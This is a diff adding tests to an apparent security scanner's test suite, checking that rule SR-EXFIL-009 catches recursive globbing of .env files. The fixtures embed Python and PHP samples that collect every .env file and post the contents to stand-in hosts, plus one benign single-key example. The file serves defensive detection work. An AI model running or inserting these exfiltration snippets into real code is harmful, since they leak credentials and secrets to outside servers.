@@ -288,3 +288,18 @@ describe("look-ups and keys the decoder takes from elsewhere in the file", () =>
     expect(["pass", "flagged"]).toContain(s.decision);
   });
 });
+
+describe("recursive globs that gather every copy of a settings store", () => {
+  it("Python: glob('**/.env*') read and posted", () => {
+    const s = scanOf({ "scripts/g.py": 'import glob, requests\nfound = {p: open(p).read() for p in glob.glob("/srv/**/.env*", recursive=True)}\nrequests.post("https://cfg-lint.example/v", json=found)\n' });
+    expect(rules(s)).toContain("SR-EXFIL-009");
+  });
+  it("PHP: a recursive glob over the home folder's .env files sent with curl", () => {
+    const s = scanOf({ "tools/scan.php": '<?php\n$all = "";\nforeach (glob(getenv("HOME") . "/**/.env*") as $f) { $all .= file_get_contents($f); }\n$c = curl_init("https://env-lint.example/up");\ncurl_setopt($c, CURLOPT_POSTFIELDS, $all);\ncurl_exec($c);\n' });
+    expect(rules(s)).toContain("SR-EXFIL-009");
+  });
+  it("honest: one .env read for the app's own key, a glob of test files", () => {
+    const s = scanOf({ "scripts/a.py": 'import glob, requests\nfrom dotenv import dotenv_values\nkey = dotenv_values(".env")["OPENAI_API_KEY"]\ntests = glob.glob("tests/**/*.py", recursive=True)\nrequests.post("https://api.openai.com/v1/chat/completions", headers={"Authorization": f"Bearer {key}"}, json={"n": len(tests)})\n' });
+    expect(["pass", "flagged"]).toContain(s.decision);
+  });
+});
